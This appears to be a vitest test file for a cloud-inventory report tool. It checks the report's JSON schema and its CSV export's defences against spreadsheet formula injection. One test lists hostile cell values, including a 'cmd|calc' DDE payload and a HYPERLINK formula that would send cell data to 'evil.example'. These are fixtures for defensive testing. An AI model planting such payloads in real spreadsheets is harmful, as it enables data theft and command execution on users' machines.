import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { expect, it } from 'vitest';
import type { BlindKind } from '../../lib/model/blind-spot.ts';
import { reportModel } from '../../lib/report/report-model.ts';
import { reportTables } from '../../lib/report/report-tables.ts';
import { tableCsv } from '../../lib/report/table-csv.ts';
import { TABLE_IDS, type Table } from '../../lib/report/table.ts';
import { HOSTILE } from './hostile.ts';
import { PLAIN } from './spreadsheet-names.ts';
import { readCsv } from './read-csv.ts';
import {
  hostileSource,
  image,
  inventoryOf,
  OPTIONS,
  region,
  share,
  smallSource,
  STRANGER,
} from '../support/inventories.ts';

const schema = JSON.parse(
  await readFile(join(import.meta.dirname, '../../docs/report-schema.json'), 'utf8'),
) as object;
interface SchemaOfKinds {
  readonly properties: {
    readonly blind: {
      readonly items: { readonly properties: { readonly kind: { readonly enum: string[] } } };
    };
  };
}
const compile = (what: object) => new Ajv2020({ allErrors: true, allowUnionTypes: true }).compile(what);
/** For readers: what is not described is ignored. */
const validate = compile(schema);
/** For our writer: nothing that is not described. */
const validateStrictly = compile(closed(schema) as object);

function closed(part: unknown): unknown {
  if (Array.isArray(part)) return part.map(closed);
  if (typeof part !== 'object' || part === null) return part;
  const inner = Object.fromEntries(Object.entries(part).map(([name, value]) => [name, closed(value)]));
  return 'properties' in part ? { ...inner, additionalProperties: false } : inner;
}

it('the JSON is as its schema says, also where nothing is known and where names are hostile', () => {
  const sources = [
    smallSource(),
    { inventory: inventoryOf(), changes: [] },
    ...HOSTILE.map((text) => hostileSource(text)),
  ];
  for (const source of sources) {
    const json: unknown = JSON.parse(JSON.stringify(reportModel(source, OPTIONS)));
    expect(validateStrictly(json), JSON.stringify(validateStrictly.errors?.slice(0, 3))).toBe(true);
  }
});

it('the schema knows each kind of blind spot, and no other', () => {
  const kinds: Readonly<Record<BlindKind, true>> = {
    entry: true,
    regions: true,
    accounts: true,
    dispatch: true,
    unsent: true,
    unaudited: true,
    overdue: true,
    list: true,
    unlisted: true,
    notListed: true,
    shares: true,
    image: true,
    unread: true,
    notRead: true,
    damaged: true,
    contradictory: true,
    channel: true,
  };
  const { enum: known } = (schema as SchemaOfKinds).properties.blind.items.properties.kind;
  expect(known.toSorted()).toEqual(Object.keys(kinds).toSorted());
});

it('a field that a later version adds, at any place, is no error for who reads by the schema of this one', () => {
  const withMore = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(withMore);
    if (typeof value !== 'object' || value === null) return value;
    const inner = Object.entries(value).map(([name, field]) => [name, withMore(field)] as const);
    return { ...Object.fromEntries(inner), addedLater: 1 };
  };
  const later = withMore(JSON.parse(JSON.stringify(reportModel(smallSource(), OPTIONS))));
  expect(validate(later), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
  expect(validateStrictly(later)).toBe(false);
});

it('the schema would notice: a number for an id, a missing field, an unknown verdict', () => {
  const good = JSON.parse(JSON.stringify(reportModel(smallSource(), OPTIONS))) as {
    shares: Record<string, unknown>[];
  };
  const [first = {}, ...rest] = good.shares;
  const { baseline: _baseline, ...without } = first;
  for (const wrong of [{ ...first, accountId: 1 }, without, { ...first, verdict: 'fine' }])
    expect(validate({ ...good, shares: [wrong, ...rest] })).toBe(false);
});

const csvOf = (name: string): string =>
  tableCsv(
    reportTables(
      reportModel(
        { inventory: inventoryOf(region([image('m-a', name, [share(STRANGER, 'untrusted')])])), changes: [] },
        OPTIONS,
      ),
    ).shares,
  );

it('I11: no cell begins what a spreadsheet runs, whatever separates its cells', () => {
  const names = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '  =1+1',
    '\t=1+1',
    '\r=1',
    '＝1+1',
    'a;=cmd|calc!A1',
    'a,"=1+1',
    '"=1+1',
    "'=1",
    '=HYPERLINK("https://evil.example?x="&A1)',
    ...HOSTILE,
  ];
  for (const name of names) {
    const csv = csvOf(name);
    for (const separator of [',', ';', '\t', '|'])
      for (const cell of csv
        .slice(1)
        .split(/\r\n/)
        .flatMap((line) => line.split(separator)))
        expect(cell.replace(/^[\s"]+/, ''), JSON.stringify(name.slice(0, 60))).not.toMatch(
          /^[=+\-@＝＋－＠]/,
        );
  }
});

it('what a spreadsheet would convert begins with an apostrophe: ids, times, such names; a count stays a number', () => {
  const tables = reportTables(reportModel(smallSource(), OPTIONS));
  const shares = readCsv(tableCsv(tables.shares));
  expect(shares[1]).toEqual([
    'prod-shop-db',
    "'m-shop",
    'cn-hangzhou',
    `'${STRANGER}`,
    '',
    'not trusted',
    "'2026-11-20 10:00:00.0",
    "'2026-11-21 03:02",
    "'2026-11-25 02:52",
  ]);
  for (const name of ['00123', '3/4', '1E5', 'SEPT1', 'TRUE', '三月四日', 'ＴＲＵＥ', "'1", '=1+1'])
    expect(readCsv(csvOf(name))[1]?.[0]).toBe(`'${name}`);
  const accounts = readCsv(tableCsv(tables.accounts));
  expect(accounts[1]).toEqual([`'${STRANGER}`, '', '2', 'not trusted', 'cn-hangzhou, cn-shanghai']);
});

it('an ordinary name, a region and our own words have no apostrophe', () => {
  for (const name of PLAIN) expect(readCsv(csvOf(name))[1]?.[0]).toBe(name);
  for (const language of ['en', 'zh'] as const)
    for (const table of Object.values(reportTables(reportModel(smallSource(), { ...OPTIONS, language })))) {
      const badges = readCsv(tableCsv(table)).flatMap((line) =>
        line.filter((_text, n) => table.columns[n]?.kind === 'badge'),
      );
      expect(badges.filter((text) => text.startsWith("'"))).toEqual([]);
    }
});

it('RFC 4180: every line of every table has as many fields as its head, whatever the names', () => {
  for (const text of HOSTILE) {
    const what = text.slice(0, 60);
    const tables: Record<string, Table> = reportTables(reportModel(hostileSource(text), OPTIONS));
    for (const id of TABLE_IDS) {
      const table = tables[id];
      const csv = tableCsv(table as Table);
      expect(csv.startsWith('\uFEFF"'), id).toBe(true);
      const lines = readCsv(csv);
      expect(lines, `${what} in ${id}`).toHaveLength((table?.rows.length ?? 0) + 1);
      expect(new Set(lines.map((line) => line.length)), `${what} in ${id}`).toEqual(
        new Set([table?.columns.length]),
      );
    }
  }
});
